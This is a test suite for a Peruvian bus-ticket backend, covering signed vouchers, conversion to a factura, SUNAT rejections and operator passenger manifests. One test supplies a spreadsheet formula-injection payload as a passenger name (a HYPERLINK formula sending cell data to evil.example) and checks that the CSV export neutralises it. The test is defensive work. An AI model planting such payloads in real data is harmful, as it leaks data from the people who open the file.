import type { Choice, Ticket } from '@rumbo/shared/schemas';
import { asc, eq } from 'drizzle-orm';
import { outbox } from '../mail/mail.tables';
import { parseOperatorTokens } from '../operators/operators';
import { decimalOf } from '../payments/signing';
import { reserva } from '../sales/sales.tables';
import { signVouchers, TEST_SECRET, testSigner } from '../test/app';
import type { Passenger } from '@rumbo/shared/schemas';
import { ADULT, BUYER, findTrip, heldPurchase, notifySafetyPay, post, safetyPayNotice, setupSandboxApp, startSafetyPay } from '../test/purchase';
import { voucherLink } from './links';
import { voucherQrText } from './pdf';
import { validateUbl } from './schema';
import { createVoucherSender } from './sender';
import { verifyUbl } from './signing';
import type { SunatPort } from './sunat';
import { comprobante } from './vouchers.tables';

const TOKEN = 'f3a9c1d47e8b20c6a5d9e1f07b3c8a4d2e6f1b9c';
const clock = Date.now();
const now = () => new Date(clock);
const api = setupSandboxApp(now, { operators: parseOperatorTokens(`ops-lima=${TOKEN}`) });

async function paidPurchase(days = 9, count = 1, passengers: Passenger[] = []) {
  const trip = await findTrip(api.app, 'LIM', 'ICA', days);
  const { clave } = await heldPurchase(api.app, [trip], count, passengers);
  const res = await post(api.app, '/rest/venta/reserva', { clave_bloqueo: clave, comprador: BUYER, terminos: true });
  const { codigo, total_centimos } = res.json().data;
  const referencia = await startSafetyPay(api.app, api.db, codigo, clave);
  expect((await notifySafetyPay(api.app, safetyPayNotice(api.sandbox, { referencia, amount: decimalOf(total_centimos) }, now()))).statusCode).toBe(200);
  const [r] = await api.db.select().from(reserva).where(eq(reserva.codigo, codigo));
  // Issue 44: numbered with the sale, signed by the vouchers' outbox right after it.
  await signVouchers(api.db, now());
  return { codigo, clave, creserva: r!.creserva, trip };
}

describe("the buyer's vouchers (issue 34)", () => {
  it('lists, prints (PDF) and hands out the signed XML of a purchase\'s voucher, with its code and key or my trips\' signed links only', async () => {
    const { codigo, clave, creserva } = await paidPurchase();
    const list = await post(api.app, '/rest/venta/comprobantes', { codigo, clave_bloqueo: clave });
    expect(list.statusCode).toBe(200);
    const { comprobantes, factura_hasta } = list.json().data;
    expect(comprobantes).toEqual([expect.objectContaining({ tipo: '03', numero: expect.stringMatching(/^B001-\d+$/), estado: 'pendiente', vigencia: 'vigente' })]);
    expect(new Date(factura_hasta).getTime()).toBeGreaterThan(clock);

    const pdf = await post(api.app, '/rest/venta/comprobante/pdf', { codigo, clave_bloqueo: clave });
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
    const xml = await post(api.app, '/rest/venta/comprobante/xml', { codigo, clave_bloqueo: clave });
    expect(xml.headers['content-type']).toContain('application/xml');
    const [row] = await api.db.select().from(comprobante).where(eq(comprobante.creserva, creserva));
    expect(xml.body).toBe(row!.xml);
    // SUNAT's QR: RUC | type | series | number | IGV | total | date | buyer's document | hash.
    expect(voucherQrText(row!)).toBe(`20518739469|03|B001|${row!.correlativo}|0.00|${(row!.total_centimos / 100).toFixed(2)}|${row!.xml!.match(/<cbc:IssueDate>([^<]+)/)![1]}|-|-|${row!.hash}|`);

    expect((await post(api.app, '/rest/venta/comprobante/xml', { codigo, clave_bloqueo: '3f1c2a4e-0000-4000-8000-000000000000' })).statusCode).toBe(404);
    const link = new URL(voucherLink(TEST_SECRET, 'http://api', 'pdf', codigo, now()));
    expect((await api.app.inject({ url: link.pathname + link.search })).rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
    // A PDF link is not an XML link, nor a link for another purchase.
    expect((await api.app.inject({ url: link.pathname.replace('/pdf/', '/xml/') + link.search })).statusCode).toBe(404);
    expect((await api.app.inject({ url: link.pathname.replace(codigo, 'ABCDEFGH') + link.search })).statusCode).toBe(404);
  });

  it('a factura asked for after the purchase: a credit note voids the boleta, the factura replaces it (valid, signed), mailed; once only; the tickets name the valid one', async () => {
    const { codigo, clave } = await paidPurchase();
    // Each ticket names its purchase's valid voucher (issue 36: a ticket kept offline shows it).
    const ticketVoucher = async () => (await post(api.app, '/rest/venta/consulta', { codigo, clave_bloqueo: clave })).json().data.boletos.map((t: { comprobante: string }) => t.comprobante);
    expect(await ticketVoucher()).toEqual([expect.stringMatching(/^B001-\d+$/)]);
    const bad = await post(api.app, '/rest/venta/comprobante/factura', { codigo, clave_bloqueo: clave, ruc: '20100047219', razon_social: 'X' }, { 'accept-language': 'en-EN' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toMatchObject({ code: 'sale.ruc.invalid', message: 'The RUC is not valid', field: 'ruc' });

    const res = await post(api.app, '/rest/venta/comprobante/factura', { codigo, clave_bloqueo: clave, ruc: '20100047218', razon_social: 'Banco de Crédito del Perú' });
    expect(res.statusCode).toBe(200);
    const { comprobantes, factura_hasta } = res.json().data;
    expect(comprobantes.map((v: { tipo: string; numero: string; vigencia: string }) => [v.tipo, v.numero.slice(0, 4), v.vigencia])).toEqual([
      ['03', 'B001', 'anulado'],
      ['07', 'BC01', 'vigente'],
      ['01', 'F001', 'vigente'],
    ]);
    expect(factura_hasta).toBeNull();
    expect(await ticketVoucher()).toEqual([comprobantes[2].numero]);
    await signVouchers(api.db, now());
    const xml = (await post(api.app, '/rest/venta/comprobante/xml', { codigo, clave_bloqueo: clave })).body;
    expect(xml).toMatch(/<cbc:InvoiceTypeCode[^>]*>01</);
    expect(xml).toContain('20100047218');
    expect(await validateUbl(xml)).toEqual([]);
    verifyUbl(xml);
    const [mail] = await api.db.select().from(outbox).where(eq(outbox.adjunto, `comprobantes:${codigo}:es-PE`));
    expect(mail!.text).toContain(comprobantes[2].numero);
    expect(mail!.text).toContain(comprobantes[1].numero);

    const again = await post(api.app, '/rest/venta/comprobante/factura', { codigo, clave_bloqueo: clave, ruc: '20100047218', razon_social: 'Banco de Crédito del Perú' });
    expect(again.statusCode).toBe(409);
    expect(again.json().code).toBe('sale.factura.yaEmitida');
  });

  it('refuses a factura after the month of the purchase', async () => {
    const { codigo, clave, creserva } = await paidPurchase();
    // The boleta as if issued last month.
    await api.db.update(comprobante).set({ emitido: new Date(clock - 40 * 24 * 3_600_000) }).where(eq(comprobante.creserva, creserva));
    expect((await post(api.app, '/rest/venta/comprobantes', { codigo, clave_bloqueo: clave })).json().data.factura_hasta).toBeNull();
    const res = await post(api.app, '/rest/venta/comprobante/factura', { codigo, clave_bloqueo: clave, ruc: '20100047218', razon_social: 'BCP' });
    expect(res.statusCode).toBe(409);
    expect(res.json()).toMatchObject({ code: 'sale.factura.plazo' });
  });

  it('issue 45 item 2: a factura after one ticket of two was cancelled states what is still sold and not credited', async () => {
    const { codigo, clave, creserva } = await paidPurchase(11, 2);
    const [kept, cancelled] = (await post(api.app, '/rest/venta/consulta', { codigo, clave_bloqueo: clave })).json().data.boletos as Ticket[];
    const cancel = await post(api.app, '/rest/venta/anular', { codigo, clave_bloqueo: clave, numero: cancelled!.numero, destino: 'original' });
    expect(cancel.statusCode).toBe(200);
    const refunded = (cancel.json().data as Choice).monto_centimos;
    const fee = cancelled!.precio_centimos - refunded;
    expect(fee).toBeGreaterThan(0);

    const res = await post(api.app, '/rest/venta/comprobante/factura', { codigo, clave_bloqueo: clave, ruc: '20100047218', razon_social: 'Banco de Crédito del Perú' });
    expect(res.statusCode).toBe(200);
    // Issue 44: the vouchers are signed after their sale, by the outbox.
    await signVouchers(api.db, now());
    const [boleta, refund, voiding, factura, ...more] = await api.db.select().from(comprobante).where(eq(comprobante.creserva, creserva)).orderBy(asc(comprobante.ccomprobante));
    expect(more).toEqual([]);
    expect(boleta).toMatchObject({ tipo: '03', total_centimos: kept!.precio_centimos + cancelled!.precio_centimos, vigencia: 'anulado' });
    expect(refund).toMatchObject({ tipo: '07', total_centimos: refunded });
    // The boleta is voided for what it still stated, and the factura states that: the seat kept, and the fee kept of the other.
    const open = boleta!.total_centimos - refunded;
    expect(voiding).toMatchObject({ tipo: '07', motivo: '01', total_centimos: open });
    expect(factura).toMatchObject({ tipo: '01', total_centimos: open, vigencia: 'vigente' });
    const lines = factura!.xml!.match(/<cac:InvoiceLine>[\s\S]*?<\/cac:InvoiceLine>/g)!;
    const amount = (line: string) => Math.round(Number(/<cbc:LineExtensionAmount currencyID="PEN">([\d.]+)</.exec(line)![1]) * 100);
    const seatLine = lines.find((line) => line.includes(`asiento ${kept!.nasiento}<`) && line.includes('Pasaje'))!;
    const feeLine = lines.find((line) => line.includes(`asiento ${cancelled!.nasiento}<`))!;
    expect(lines).toHaveLength(2);
    expect(amount(seatLine)).toBe(kept!.precio_centimos);
    expect(feeLine).toContain('Cargo por anulación');
    expect(amount(feeLine)).toBe(fee);
    expect(await validateUbl(factura!.xml!)).toEqual([]);
  });
});

describe("the operators' view of the vouchers", () => {
  it("a trip's manifest (JSON, CSV, PDF) names each passenger with seat, age, document, stops, voucher and amount, to an operator only", async () => {
    const { trip, creserva } = await paidPurchase(10);
    const [voucher] = await api.db.select().from(comprobante).where(eq(comprobante.creserva, creserva));
    const auth = { authorization: `Bearer ${TOKEN}` };
    expect((await api.app.inject({ url: `/rest/operador/viajes/${trip.cviaje}/manifiesto` })).statusCode).toBe(401);
    expect((await api.app.inject({ url: '/rest/operador/viajes/999999/manifiesto', headers: auth })).statusCode).toBe(404);
    const res = await api.app.inject({ url: `/rest/operador/viajes/${trip.cviaje}/manifiesto`, headers: auth });
    expect(res.statusCode).toBe(200);
    const manifest = res.json().data;
    expect(manifest).toMatchObject({ cviaje: trip.cviaje, origen: 'Lima', destino: 'Ica' });
    const passenger = manifest.pasajeros.find((p: { comprobante: string }) => p.comprobante === `B001-${voucher!.correlativo}`);
    expect(passenger).toMatchObject({ nombres: 'Rosa', apellidos: 'Quispe Mamani', documento_tipo: '1', importe_centimos: voucher!.total_centimos, menor: false });
    expect(passenger.edad).toBeGreaterThanOrEqual(18);
    expect(passenger.embarque).toContain('(Lima)');
    expect(passenger.desembarque).toContain('(Ica)');
    const csv = await api.app.inject({ url: `/rest/operador/viajes/${trip.cviaje}/manifiesto.csv`, headers: auth });
    expect(csv.headers['content-type']).toContain('text/csv');
    const lines = csv.body.trim().split('\r\n');
    expect(lines[0]).toBe('asiento,piso,apellidos,nombres,edad,documento_tipo,documento_numero,embarque,desembarque,boleto,comprobante,importe,en_brazos_de_asiento,autorizacion_notarial');
    expect(lines.some((line) => line.includes(`B001-${voucher!.correlativo},${(voucher!.total_centimos / 100).toFixed(2)},,`))).toBe(true);
    const pdf = await api.app.inject({ url: `/rest/operador/viajes/${trip.cviaje}/manifiesto.pdf`, headers: auth });
    expect(pdf.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
  });

  it('issue 45 item 3: a passenger named with a spreadsheet formula is plain text in the manifest CSV', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")';
    const { trip } = await paidPurchase(11, 1, [{ ...ADULT, numero: '41234567', nombres: formula, paterno: '@SUMA(1', materno: '+1' }]);
    const csv = await api.app.inject({ url: `/rest/operador/viajes/${trip.cviaje}/manifiesto.csv`, headers: { authorization: `Bearer ${TOKEN}` } });
    expect(csv.statusCode).toBe(200);
    const line = csv.body.split('\r\n').find((l) => l.includes('41234567'))!;
    // Every cell of the line, unquoted as a spreadsheet reads it: none may start a formula.
    const cells = [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replace(/""/g, '"'));
    expect(cells).toContain(`'${formula}`);
    expect(cells).toContain("'@SUMA(1 +1");
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('lists a voucher SUNAT refused, with its code, to an operator only', async () => {
    const { codigo, creserva } = await paidPurchase();
    const refusing: SunatPort = { sandbox: true, sendBill: async () => ({ kind: 'fault', code: '0306', message: 'No se puede leer (parsear) el archivo XML' }) };
    await createVoucherSender({ db: api.db, sunat: refusing, signer: testSigner(), log: { warn: () => undefined, error: () => undefined } }).drain(now());
    expect((await api.app.inject({ url: '/rest/operador/comprobantes' })).statusCode).toBe(401);
    const res = await api.app.inject({ url: '/rest/operador/comprobantes', headers: { authorization: `Bearer ${TOKEN}` } });
    expect(res.statusCode).toBe(200);
    const [row] = await api.db.select().from(comprobante).where(eq(comprobante.creserva, creserva));
    expect(res.json().data).toContainEqual(expect.objectContaining({ ccomprobante: row!.ccomprobante, codigo, estado: 'rechazado', sunat_codigo: '0306', sunat_descripcion: 'No se puede leer (parsear) el archivo XML' }));
    const accepted = await api.app.inject({ url: '/rest/operador/comprobantes?estado=aceptado', headers: { authorization: `Bearer ${TOKEN}` } });
    expect(accepted.json().data.some((v: { ccomprobante: number }) => v.ccomprobante === row!.ccomprobante)).toBe(false);
  });
});
